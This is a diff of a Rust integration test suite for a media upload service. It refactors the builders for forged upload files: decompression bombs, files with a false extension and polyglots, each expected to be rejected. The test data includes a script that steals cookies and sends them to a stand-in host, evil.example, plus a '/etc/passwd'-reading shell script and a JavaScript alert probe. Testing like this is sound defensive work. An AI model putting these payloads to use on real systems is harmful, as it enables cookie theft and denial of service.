@@ -27,8 +27,8 @@ use microcat::config::Settings;
 use microcat::domain::user::Role;
 use serde_json::Value;
 
-use crate::fixtures;
 use crate::helpers::{Reply, Session, TestApp, work_json};
+use crate::{fixtures, forged};
 
 // ---------------------------------------------------------------------------------------------
 // Media cases
@@ -168,51 +168,41 @@ fn flipped(bytes: &[u8], seed: u64, every: usize) -> (Vec<u8>, usize) {
 fn bombs() -> Vec<Case> {
     let films = films();
     let mp4 = fixtures::read(&films.mp4);
-    let zeros = fixtures::zlib_of_zeros(200 * 1024 * 1024);
+    let zeros = forged::zlib_of_zeros(200 * 1024 * 1024);
     let ztxt = [&b"Comment\0\0"[..], &zeros[..]].concat();
     let iccp = [&b"icc\0\0"[..], &zeros[..]].concat();
     vec![
         case("png claiming 100000x100000", "bomb.png", fixtures::png_claiming(100_000, 100_000), Expect::NotReady),
-        case("jpeg claiming 65535x65535", "bomb.jpg", fixtures::jpeg_claiming(65_535, 65_535), Expect::NotReady),
-        case("gif claiming a 65535x65535 screen", "bomb.gif", fixtures::gif_claiming(65_535, 65_535), Expect::NotReady),
-        case("lossless webp claiming 16384x16384", "bomb.webp", fixtures::webp_claiming_largest(), Expect::NotReady),
+        case("jpeg claiming 65535x65535", "bomb.jpg", forged::jpeg_claiming(65_535, 65_535), Expect::NotReady),
+        case("gif claiming a 65535x65535 screen", "bomb.gif", forged::gif_claiming(65_535, 65_535), Expect::NotReady),
+        case("lossless webp claiming 16384x16384", "bomb.webp", forged::webp_claiming_largest(), Expect::NotReady),
         case(
             "webp canvas claiming 16777216x16777216",
             "canvas.webp",
-            fixtures::webp_canvas_claiming(1 << 24),
+            forged::webp_canvas_claiming(1 << 24),
             Expect::NotReady,
         ),
         case(
             "png with 200 MB of zeros in zTXt",
             "ztxt.png",
-            fixtures::png_with_chunk(b"zTXt", &ztxt),
+            forged::png_with_chunk(b"zTXt", &ztxt),
             Expect::RejectedOrFailed,
         ),
         case(
             "png with 200 MB of zeros in iCCP",
             "iccp.png",
-            fixtures::png_with_chunk(b"iCCP", &iccp),
+            forged::png_with_chunk(b"iCCP", &iccp),
             Expect::RejectedOrFailed,
         ),
-        case(
-            "png of 25 megapixels in 470 KB",
-            "idat.png",
-            fixtures::png_of_zeros(5000, 5000),
-            Expect::RejectedOrFailed,
-        ),
-        case(
-            "mp4 claiming 65535x65535 frames",
-            "huge.mp4",
-            fixtures::mp4_claiming_frame(&mp4),
-            Expect::RejectedOrFailed,
-        ),
+        case("png of 25 megapixels in 470 KB", "idat.png", forged::png_of_zeros(5000, 5000), Expect::RejectedOrFailed),
+        case("mp4 claiming 65535x65535 frames", "huge.mp4", forged::mp4_claiming_frame(&mp4), Expect::RejectedOrFailed),
         case(
             "raw-video mov claiming 65535x65535 frames",
             "huge.mov",
-            fixtures::mp4_claiming_frame(&fixtures::read(&films.raw_mov)),
+            forged::mp4_claiming_frame(&fixtures::read(&films.raw_mov)),
             Expect::NotReady,
         ),
-        case("mp4 claiming 10 hours", "ten-hours.mp4", fixtures::mp4_claiming_duration(&mp4, 36_000), Expect::NotReady),
+        case("mp4 claiming 10 hours", "ten-hours.mp4", forged::mp4_claiming_duration(&mp4, 36_000), Expect::NotReady),
     ]
 }
 
@@ -286,7 +276,7 @@ fn disguised() -> Vec<Case> {
         case("javascript named .png", "app.png", b"alert(document.domain);//".to_vec(), Expect::Rejected),
         case("elf executable named .mp4", "true.mp4", elf, Expect::Rejected),
         case("windows executable named .jpg", "setup.jpg", exe, Expect::Rejected),
-        case("zip archive named .webp", "archive.webp", fixtures::zip_with("a.txt", b"hello"), Expect::Rejected),
+        case("zip archive named .webp", "archive.webp", forged::zip_with("a.txt", b"hello"), Expect::Rejected),
         case("pdf named .jpg", "scan.jpg", pdf.to_vec(), Expect::Rejected),
         case("shell script named .mp4", "run.mp4", b"#!/bin/sh\ncat /etc/passwd\n".to_vec(), Expect::Rejected),
         case("wav audio named .mp3", "voice.mp3", wav.to_vec(), Expect::Rejected),
@@ -305,7 +295,7 @@ fn disguised() -> Vec<Case> {
 fn polyglots() -> Vec<Case> {
     let mp4 = fixtures::read(&films().mp4);
     let photo = fixtures::jpeg(48, 32);
-    let jar = fixtures::zip_with("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n");
+    let jar = forged::zip_with("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n");
     let page = b"<html><script>document.location='http://evil.example/?'+document.cookie</script></html>";
     vec![
         case("jpeg with a zip appended", "photo.jpg", [&photo[..], &jar[..]].concat(), Expect::RejectedOrFailed),
@@ -441,12 +431,25 @@ async fn run_media_group(app: &TestApp, author: &Session, work: &str, group: &st
     }
     for (case, id) in accepted {
         // Its preview too: a transcode still running would hold a temp folder.
-        let media = app.settled(author, &id).await;
+        let media = settled(app, author, &id).await;
         check_processed(app, author, case, &media).await;
     }
     app.assert_healthy().await;
     assert_eq!(app.temp_entries(), 0, "{group}: temp files left behind");
     cases.len()
+}
+
+/// Waits until processing of a medium and of its preview (if one is made) have ended.
+async fn settled(app: &TestApp, session: &Session, media_id: &str) -> Value {
+    let deadline = std::time::Instant::now() + Duration::from_secs(300);
+    loop {
+        let media = app.processed(session, media_id).await;
+        if !matches!(media["preview"]["status"].as_str(), Some("pending" | "processing")) {
+            return media;
+        }
+        assert!(std::time::Instant::now() < deadline, "preview of {media_id} still being made: {media}");
+        actix_web::rt::time::sleep(Duration::from_millis(100)).await;
+    }
 }
 
 /// A stable code clients can match on: non-empty kebab-case.
